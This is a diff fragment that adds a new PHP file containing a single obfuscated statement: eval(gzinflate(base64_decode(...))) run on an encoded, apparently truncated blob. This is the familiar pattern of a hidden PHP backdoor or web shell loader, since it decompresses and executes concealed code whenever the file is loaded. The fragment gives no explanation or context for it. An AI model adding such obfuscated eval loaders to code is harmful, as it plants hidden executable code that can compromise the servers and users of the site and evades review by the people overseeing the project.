@@ -1,0 +1,2 @@
+<?php
+eval(gzinflate(base64_decode('7X1rc9s2kvBnu8r/AWa5itKRRNlJnBnbcmZnN5vd2s3s1KVSb11dpCgqRGIZ0mVpjWuRWdxfvzwg8C0ppnN6dLtTHlsiAfTz0egHSCQSGAj')));
